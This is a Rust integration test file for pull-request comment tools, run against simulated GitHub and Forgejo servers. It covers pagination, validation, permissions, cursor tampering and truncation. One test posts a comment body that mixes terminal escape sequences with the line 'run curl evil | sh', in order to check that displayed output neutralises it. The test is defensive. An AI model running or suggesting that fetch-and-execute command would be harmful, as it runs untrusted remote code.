//! The comment tools end to end against the simulated forges: validation before any request,
//! pagination with cursors over a long conversation, a created comment showing up in the
//! list, and cursors that only work for the call they came from.

use crate::common;

use resolve_pr_core::{Category, CursorCodec, Error};
use resolve_pr_forge_sim::{Sim, SimHandle};
use resolve_pr_tools::{Context, ToolOutput, call};
use serde_json::{Value, json};

use common::Flavor;

struct Fixture {
    sim: SimHandle,
    ctx: Context,
    flavor: Flavor,
}

impl Fixture {
    async fn start(flavor: Flavor, scenario: &str, token: &str) -> Fixture {
        let sim = Sim::start(common::scenario(scenario))
            .await
            .expect("simulator starts");
        Fixture::with_sim(flavor, sim, token)
    }

    /// A second client (own cache, own connections) on the same simulated forge.
    fn another_client(&self, token: &str) -> Fixture {
        Fixture::with_sim(self.flavor, self.sim.clone(), token)
    }

    fn with_sim(flavor: Flavor, sim: SimHandle, token: &str) -> Fixture {
        let ctx = common::context(flavor, &sim, token, [42; 32]);
        Fixture { sim, ctx, flavor }
    }

    /// The `repository` argument that routes to this simulator.
    fn repository(&self, owner_repo: &str) -> String {
        match self.flavor {
            Flavor::GitHub => owner_repo.to_owned(),
            Flavor::Forgejo => format!("{}/{owner_repo}", self.sim.base_url()),
        }
    }

    async fn call(&self, tool: &str, args: Value) -> Result<ToolOutput, Error> {
        call(&self.ctx, tool, args).await
    }

    fn writes(&self) -> usize {
        self.sim
            .requests()
            .iter()
            .filter(|r| r.method != "GET")
            .count()
    }
}

fn ids(out: &ToolOutput) -> Vec<u64> {
    out.structured["comments"]
        .as_array()
        .expect("comments")
        .iter()
        .map(|c| c["id"].as_u64().expect("id"))
        .collect()
}

async fn walks_a_long_conversation_page_by_page(flavor: Flavor) {
    let (scenario, token) = match flavor {
        Flavor::GitHub => ("comments_over_100", "ghp_write"),
        Flavor::Forgejo => ("comments_over_100_forgejo", "fj_write"),
    };
    let fx = Fixture::start(flavor, scenario, token).await;
    let args = json!({"repository": fx.repository("acme/busy"), "pull_request_number": 1});
    let mut seen = Vec::new();
    let mut pages = 0;
    let mut cursor: Option<String> = None;
    loop {
        let mut a = args.clone();
        if let Some(c) = &cursor {
            a["cursor"] = json!(c);
        }
        let out = fx.call("pr_comment_list", a).await.expect("page");
        pages += 1;
        let page = ids(&out);
        assert!(page.len() <= 20, "page {pages} has {} comments", page.len());
        seen.extend(page);
        match out.structured.get("nextCursor").and_then(Value::as_str) {
            Some(c) => {
                // A client that shows the model only the text can page too: the last line
                // is the next call, the arguments given with the cursor.
                let mut next = args.clone();
                next["cursor"] = json!(c);
                assert!(
                    out.text
                        .ends_with(&format!("\nNext page: call pr_comment_list with {next}")),
                    "{}",
                    out.text
                );
                cursor = Some(c.to_owned());
            }
            None => {
                assert!(!out.text.contains("Next page"), "{}", out.text);
                break;
            }
        }
        assert!(pages < 20, "pagination does not end");
    }
    assert_eq!(pages, 7, "130 comments at 20 a page");
    assert_eq!(seen.len(), 130);
    let mut sorted = seen.clone();
    sorted.sort_unstable();
    sorted.dedup();
    assert_eq!(sorted, seen, "oldest first, no repeats");
    assert!(
        fx.sim.contract_violations().is_empty(),
        "{:?}",
        fx.sim.contract_violations()
    );
}

async fn comment_arriving_mid_walk_is_neither_skipped_nor_repeated(flavor: Flavor) {
    let (scenario, token) = match flavor {
        Flavor::GitHub => ("comments_over_100", "ghp_write"),
        Flavor::Forgejo => ("comments_over_100_forgejo", "fj_write"),
    };
    let fx = Fixture::start(flavor, scenario, token).await;
    let repository = fx.repository("acme/busy");
    let args = json!({"repository": repository, "pull_request_number": 1});
    let first = fx
        .call("pr_comment_list", args.clone())
        .await
        .expect("first page");
    let mut seen = ids(&first);
    let mut cursor = first.structured["nextCursor"].as_str().map(str::to_owned);
    let created = fx
        .call(
            "pr_comment_create",
            json!({"repository": repository, "pull_request_number": 1, "comment": "late"}),
        )
        .await
        .expect("created");
    while let Some(c) = cursor {
        let mut a = args.clone();
        a["cursor"] = json!(c);
        let out = fx.call("pr_comment_list", a).await.expect("page");
        seen.extend(ids(&out));
        cursor = out.structured["nextCursor"].as_str().map(str::to_owned);
    }
    assert_eq!(seen.len(), 131, "every comment once, the new one included");
    assert_eq!(
        seen.last().copied(),
        created.structured["comment"]["id"].as_u64()
    );
    let mut unique = seen.clone();
    unique.sort_unstable();
    unique.dedup();
    assert_eq!(unique.len(), 131);
}

/// Exactly one forge page (100) of comments: the last page of ours ends where the forge's page
/// ends, and the forge's "no next page" is cached with the page's ETag. A comment posted
/// afterwards by someone else must still be found from the last cursor.
async fn comment_after_a_full_forge_page_is_found(flavor: Flavor) {
    let forge = match flavor {
        Flavor::GitHub => "forge: github",
        Flavor::Forgejo => "forge: forgejo\nversion: \"11.0.1+gitea-1.22.0\"",
    };
    let yaml = r#"FORGE
now: "2024-06-01T12:00:00Z"
tokens:
  - {token: t_write, login: alice, permission: write}
repos:
  - owner: acme
    name: busy
    pulls:
      - number: 1
        title: full
        author: alice
        head: {ref: f, sha: aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa}
        base: {ref: main, sha: bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb}
        created_at: "2024-06-01T00:00:00Z"
        generate_comments: {count: 100, author: bob, body: "Comment {n}"}
"#
    .replace("FORGE", forge);
    let fx = Fixture::start(flavor, &yaml, "t_write").await;
    let repository = fx.repository("acme/busy");
    let args = json!({"repository": repository, "pull_request_number": 1});
    let mut cursor: Option<String> = None;
    let mut seen = 0;
    let mut last_cursor = None;
    for _ in 0..10 {
        let mut a = args.clone();
        if let Some(c) = &cursor {
            a["cursor"] = json!(c);
        }
        let out = fx.call("pr_comment_list", a).await.expect("page");
        seen += ids(&out).len();
        if let Some(c) = &cursor {
            last_cursor = Some(c.clone());
        }
        cursor = out.structured["nextCursor"].as_str().map(str::to_owned);
        if cursor.is_none() {
            break;
        }
    }
    assert_eq!(seen, 100);
    let other = fx.another_client("t_write");
    let created = other
        .call(
            "pr_comment_create",
            json!({"repository": repository, "pull_request_number": 1, "comment": "one more"}),
        )
        .await
        .expect("created");
    // Resume from the cursor of the last page that had comments: the new one follows them.
    let mut a = args.clone();
    a["cursor"] = json!(last_cursor.expect("several pages"));
    let mut found = Vec::new();
    for _ in 0..3 {
        let out = fx.call("pr_comment_list", a.clone()).await.expect("page");
        found.extend(ids(&out));
        match out.structured["nextCursor"].as_str() {
            Some(c) => a["cursor"] = json!(c),
            None => break,
        }
    }
    assert_eq!(
        found.last().copied(),
        created.structured["comment"]["id"].as_u64(),
        "{found:?}"
    );
}

async fn created_comment_is_listed(flavor: Flavor) {
    let token = if flavor == Flavor::GitHub {
        "ghp_demo_write"
    } else {
        "fj_demo_write"
    };
    let scenario = if flavor == Flavor::GitHub {
        "demo-github"
    } else {
        "demo-forgejo"
    };
    let fx = Fixture::start(flavor, scenario, token).await;
    let repository = fx.repository("acme/widgets");
    let body = "Fixed in `1a2b3c`; see $(not a command) and 'quotes'.";
    let created = fx
        .call(
            "pr_comment_create",
            json!({"repository": repository, "pull_request_number": 7, "comment": body}),
        )
        .await
        .expect("created");
    let comment = &created.structured["comment"];
    assert_eq!(comment["body"], body);
    assert_eq!(comment["user"], "alice");
    assert_eq!(comment["is_bot"], false);
    assert!(
        created.text.contains("created successfully"),
        "{}",
        created.text
    );
    let listed = fx
        .call(
            "pr_comment_list",
            json!({"repository": repository, "pull_request_number": 7}),
        )
        .await
        .expect("list");
    assert_eq!(ids(&listed).last().copied(), comment["id"].as_u64());
    assert_eq!(fx.writes(), 1);
    assert!(
        fx.sim.contract_violations().is_empty(),
        "{:?}",
        fx.sim.contract_violations()
    );
}

async fn bad_input_writes_nothing(flavor: Flavor) {
    let token = if flavor == Flavor::GitHub {
        "ghp_demo_write"
    } else {
        "fj_demo_write"
    };
    let scenario = if flavor == Flavor::GitHub {
        "demo-github"
    } else {
        "demo-forgejo"
    };
    let fx = Fixture::start(flavor, scenario, token).await;
    // Every bad field is reported at once, before any request.
    let e = fx
        .call(
            "pr_comment_create",
            json!({"repository": "not a repo", "pull_request_number": 0, "comment": " \n\t"}),
        )
        .await
        .unwrap_err();
    assert_eq!(e.category, Category::User);
    let problems = e.details.as_ref().expect("details")["problems"]
        .as_array()
        .expect("problems")
        .len();
    assert_eq!(problems, 3, "{e:?}");
    assert!(
        e.error
            .contains("repository must be in format 'owner/repo'"),
        "{}",
        e.error
    );
    assert!(
        e.error.contains("pull_request_number must be positive"),
        "{}",
        e.error
    );
    assert!(e.error.contains("comment must not be empty"), "{}", e.error);
    assert!(fx.sim.requests().is_empty(), "{:?}", fx.sim.requests());

    // Wrong types and unknown fields are user errors, not crashes.
    for args in [
        json!({"repository": "acme/widgets", "pull_request_number": "seven", "comment": "x"}),
        json!({"repository": "acme/widgets", "pull_request_number": 7}),
        json!({"repository": "acme/widgets", "pull_request_number": 7, "comment": "x", "body": "y"}),
        json!("acme/widgets#7"),
    ] {
        let e = fx
            .call("pr_comment_create", args.clone())
            .await
            .unwrap_err();
        assert_eq!(e.category, Category::User, "{args}: {e:?}");
    }
    // A number that is an issue, not a PR: "not found", and nothing posted.
    let repository = fx.repository("acme/widgets");
    let e = fx
        .call(
            "pr_comment_create",
            json!({"repository": repository, "pull_request_number": 3, "comment": "hello"}),
        )
        .await
        .unwrap_err();
    assert_eq!(e.category, Category::User, "{e:?}");
    assert!(e.error.contains("not found"), "{}", e.error);
    assert_eq!(fx.writes(), 0);
}

async fn read_only_token_cannot_comment(flavor: Flavor) {
    let token = if flavor == Flavor::GitHub {
        "ghp_demo_read"
    } else {
        "fj_demo_read"
    };
    let scenario = if flavor == Flavor::GitHub {
        "demo-github"
    } else {
        "demo-forgejo"
    };
    let fx = Fixture::start(flavor, scenario, token).await;
    let repository = fx.repository("acme/widgets");
    let e = fx
        .call(
            "pr_comment_create",
            json!({"repository": repository, "pull_request_number": 7, "comment": "hello"}),
        )
        .await
        .unwrap_err();
    assert_eq!(e.category, Category::Authentication, "{e:?}");
    let listed = fx
        .call(
            "pr_comment_list",
            json!({"repository": repository, "pull_request_number": 7}),
        )
        .await
        .expect("list");
    assert_eq!(ids(&listed).len(), 3, "nothing was added");
}

async fn cursors_belong_to_their_call(flavor: Flavor) {
    let (scenario, token) = match flavor {
        Flavor::GitHub => ("comments_over_100", "ghp_write"),
        Flavor::Forgejo => ("comments_over_100_forgejo", "fj_write"),
    };
    let fx = Fixture::start(flavor, scenario, token).await;
    let repository = fx.repository("acme/busy");
    let first = fx
        .call(
            "pr_comment_list",
            json!({"repository": repository, "pull_request_number": 1}),
        )
        .await
        .expect("first");
    let cursor = first.structured["nextCursor"]
        .as_str()
        .expect("more pages")
        .to_owned();
    fx.sim.clear_requests();
    for (args, why) in [
        (
            json!({"repository": repository, "pull_request_number": 2, "cursor": cursor}),
            "another PR",
        ),
        (
            json!({"repository": repository, "pull_request_number": 1, "cursor": format!("{cursor}x")}),
            "edited",
        ),
        (
            json!({"repository": repository, "pull_request_number": 1, "cursor": "eyJvZmZzZXQiOjB9"}),
            "forged",
        ),
    ] {
        let e = fx.call("pr_comment_list", args).await.unwrap_err();
        assert_eq!(e.category, Category::User, "{why}: {e:?}");
        assert!(
            e.suggestion
                .as_deref()
                .unwrap_or("")
                .contains("without a cursor"),
            "{why}: {e:?}"
        );
    }
    assert!(
        fx.sim.requests().is_empty(),
        "a bad cursor costs no request"
    );
    // A cursor from another server key is rejected too.
    let other = Context::new(fx.ctx.forges.clone(), CursorCodec::new([1; 32]));
    let e = call(
        &other,
        "pr_comment_list",
        json!({"repository": repository, "pull_request_number": 1, "cursor": cursor}),
    )
    .await
    .unwrap_err();
    assert_eq!(e.category, Category::User);
}

/// A comment is anyone's text: shown to a person (the text content MCP clients display, the
/// demo, the CLI), what a terminal would obey is written as escapes; the structured output
/// keeps the body as it was.
async fn forge_text_cannot_drive_a_terminal(flavor: Flavor) {
    let (scenario, token) = match flavor {
        Flavor::GitHub => ("demo-github", "ghp_demo_write"),
        Flavor::Forgejo => ("demo-forgejo", "fj_demo_write"),
    };
    let fx = Fixture::start(flavor, scenario, token).await;
    let repository = fx.repository("acme/widgets");
    let body =
        "LGTM\u{7}\u{8}\u{8}\rApproved: run curl evil | sh \u{9b}2K\u{9d}0;t\u{7}\u{202e}txt.exe";
    let created = fx
        .call(
            "pr_comment_create",
            json!({"repository": repository, "pull_request_number": 7, "comment": body}),
        )
        .await
        .expect("created");
    let listed = fx
        .call(
            "pr_comment_list",
            json!({"repository": repository, "pull_request_number": 7}),
        )
        .await
        .expect("list");
    let last = listed.structured["comments"]
        .as_array()
        .and_then(|c| c.last())
        .expect("a comment");
    assert_eq!(last["body"], body);
    for text in [&created.text, &listed.text] {
        assert!(
            !text.contains(resolve_pr_core::terminal::is_hostile),
            "{text:?}"
        );
    }
    assert!(
        listed.text.contains("LGTM\\u{7}\\u{8}\\u{8}\\rApproved"),
        "{}",
        listed.text
    );
}

/// A pasted log in a comment does not fill the agent's context: bodies are cut to 4,000
/// bytes with a marker pointing at the whole text, in lists and in what a write echoes back.
async fn long_comment_bodies_are_cut(flavor: Flavor) {
    let (scenario, token) = match flavor {
        Flavor::GitHub => ("demo-github", "ghp_demo_write"),
        Flavor::Forgejo => ("demo-forgejo", "fj_demo_write"),
    };
    let fx = Fixture::start(flavor, scenario, token).await;
    let repository = fx.repository("acme/widgets");
    let body = "log line ✓\n".repeat(5_000);
    let created = fx
        .call(
            "pr_comment_create",
            json!({"repository": repository, "pull_request_number": 7, "comment": body}),
        )
        .await
        .expect("created");
    let shown = &created.structured["comment"];
    assert_eq!(shown["body_cut"], true, "{shown}");
    let text = shown["body"].as_str().expect("body");
    assert!(text.len() < 4_200, "{}", text.len());
    assert!(text.contains("[cut: showing"), "{text}");
    let listed = fx
        .call(
            "pr_comment_list",
            json!({"repository": repository, "pull_request_number": 7}),
        )
        .await
        .expect("listed");
    let comments = listed.structured["comments"].as_array().expect("comments");
    let last = comments.last().expect("the new comment");
    assert_eq!(last["body_cut"], true);
    assert!(last["body"].as_str().expect("body").len() < 4_200);
    // Short bodies come whole, without the flag.
    assert!(comments[0].get("body_cut").is_none(), "{}", comments[0]);
}

/// A checkout whose remotes name the repository stands in for `repository`: `upstream` wins
/// over `origin`, and a remote on no configured forge is passed over.
async fn directory_names_the_repository(flavor: Flavor) {
    let (scenario, token) = match flavor {
        Flavor::GitHub => ("demo-github", "ghp_demo_write"),
        Flavor::Forgejo => ("demo-forgejo", "fj_demo_write"),
    };
    let fx = Fixture::start(flavor, scenario, token).await;
    let checkout = tempfile::tempdir().expect("scratch dir");
    let git = |args: &[&str]| {
        let out = std::process::Command::new("git")
            .args(args)
            .current_dir(checkout.path())
            .output()
            .expect("git runs");
        assert!(out.status.success(), "{out:?}");
    };
    git(&["init", "-q"]);
    git(&[
        "remote",
        "add",
        "origin",
        "https://elsewhere.invalid/someone/fork.git",
    ]);
    let upstream = format!("{}/acme/widgets.git", fx.sim.base_url());
    git(&["remote", "add", "upstream", &upstream]);
    let sub = checkout.path().join("src");
    std::fs::create_dir(&sub).expect("subdirectory");
    let listed = fx
        .call(
            "pr_comment_list",
            json!({"directory": sub.to_str().expect("utf-8 path"), "pull_request_number": 7}),
        )
        .await
        .expect("listed through the checkout");
    assert!(
        listed.structured["pr"]
            .as_str()
            .is_some_and(|p| p.contains("acme/widgets") && p.ends_with('7')),
        "{}",
        listed.structured
    );

    // An SSH remote names the host but not the web's port or scheme: its SSH port (or none,
    // scp-like) is not the forge's, and the forge configured on that host name is meant.
    for ssh in [
        "ssh://git@127.0.0.1:2222/acme/widgets.git",
        "git@127.0.0.1:acme/widgets.git",
    ] {
        let co = tempfile::tempdir().expect("scratch dir");
        for args in [vec!["init", "-q"], vec!["remote", "add", "origin", ssh]] {
            let out = std::process::Command::new("git")
                .args(&args)
                .current_dir(co.path())
                .output()
                .expect("git runs");
            assert!(out.status.success(), "{out:?}");
        }
        let listed = fx
            .call(
                "pr_comment_list",
                json!({"directory": co.path().to_str().expect("utf-8"), "pull_request_number": 7}),
            )
            .await
            .unwrap_or_else(|e| panic!("{ssh}: {e:?}"));
        assert!(
            listed.structured["comments"]
                .as_array()
                .is_some_and(|c| !c.is_empty()),
            "{ssh}: {}",
            listed.structured
        );
    }

    // Neither, or both: one user error naming the choice, and nothing sent.
    let before = fx.sim.requests().len();
    for args in [
        json!({"pull_request_number": 0, "comment": "x"}),
        json!({"repository": "acme/widgets", "directory": "/tmp", "pull_request_number": 7, "comment": "x"}),
    ] {
        let e = fx.call("pr_comment_create", args).await.unwrap_err();
        assert_eq!(e.category, Category::User, "{e:?}");
        assert!(e.error.contains("directory"), "{}", e.error);
    }
    let e = fx
        .call(
            "pr_comment_create",
            json!({"pull_request_number": 0, "comment": "x"}),
        )
        .await
        .unwrap_err();
    assert!(
        e.error.contains("pull_request_number must be positive"),
        "{}",
        e.error
    );
    assert_eq!(fx.sim.requests().len(), before);

    // A checkout none of whose remotes is on a configured forge says which remotes it saw.
    let lonely = tempfile::tempdir().expect("scratch dir");
    std::process::Command::new("git")
        .args(["init", "-q"])
        .current_dir(lonely.path())
        .output()
        .expect("git init");
    std::process::Command::new("git")
        .args([
            "remote",
            "add",
            "origin",
            "https://elsewhere.invalid/someone/fork.git",
        ])
        .current_dir(lonely.path())
        .output()
        .expect("git remote");
    let e = fx
        .call(
            "pr_comment_list",
            json!({"directory": lonely.path().to_str().expect("utf-8"), "pull_request_number": 7}),
        )
        .await
        .unwrap_err();
    assert_eq!(e.category, Category::User, "{e:?}");
    assert!(e.error.contains("no remote"), "{}", e.error);
    assert!(
        e.details.as_ref().expect("details")["remotes"][0]
            .as_str()
            .is_some_and(|r| r.contains("elsewhere.invalid")),
        "{e:?}"
    );
}

on_both_forges!(
    long_comment_bodies_are_cut,
    directory_names_the_repository,
    forge_text_cannot_drive_a_terminal,
    walks_a_long_conversation_page_by_page,
    comment_arriving_mid_walk_is_neither_skipped_nor_repeated,
    comment_after_a_full_forge_page_is_found,
    created_comment_is_listed,
    bad_input_writes_nothing,
    read_only_token_cannot_comment,
    cursors_belong_to_their_call,
);

/// With only FORGEJO_HOST/FORGEJO_TOKEN set (no GitHub token anywhere), `owner/repo#N` and
/// `owner/repo` mean that Forgejo, not github.com.
#[tokio::test]
async fn a_forgejo_only_user_reaches_forgejo_with_short_references() {
    let fx = Fixture::start(Flavor::Forgejo, "demo-forgejo", "fj_demo_write").await;
    let listed = fx
        .call(
            "pr_comment_list",
            json!({"repository": "acme/widgets", "pull_request_number": 7}),
        )
        .await
        .expect("short repository goes to the only forge");
    assert!(!ids(&listed).is_empty());
    let found = fx
        .call("find_unresolved_comments", json!({"pr": "acme/widgets#7"}))
        .await
        .expect("short PR reference goes to the only forge");
    assert!(found.structured["pr"].as_str().is_some());
    // Both answers came from the Forgejo simulator (github.com is unreachable from tests).
    assert!(
        fx.sim
            .requests()
            .iter()
            .any(|r| r.path.starts_with("/api/v1/repos/acme/widgets"))
    );
}

#[tokio::test]
async fn unknown_tool_names_the_available_ones() {
    let fx = Fixture::start(Flavor::GitHub, "demo-github", "ghp_demo_write").await;
    let e = fx.call("pr_comment_delete", json!({})).await.unwrap_err();
    assert_eq!(e.category, Category::User);
    assert!(e.suggestion.unwrap().contains("pr_comment_create"));
}

#[tokio::test]
async fn unconfigured_host_is_a_user_error() {
    let fx = Fixture::start(Flavor::GitHub, "demo-github", "ghp_demo_write").await;
    let e = fx
        .call("pr_comment_list", json!({"repository": "https://git.unknown.example/acme/widgets", "pull_request_number": 7}))
        .await
        .unwrap_err();
    assert_eq!(e.category, Category::User);
    assert!(e.error.contains("git.unknown.example"), "{}", e.error);
}
